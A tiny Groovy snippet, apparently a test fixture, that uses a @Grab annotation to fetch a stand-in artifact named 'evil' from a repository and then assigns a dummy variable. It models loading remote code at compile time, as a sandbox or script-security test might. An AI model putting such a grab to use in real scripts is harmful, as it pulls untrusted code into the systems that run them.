@Grab('org.example:evil:1')
def x = 1
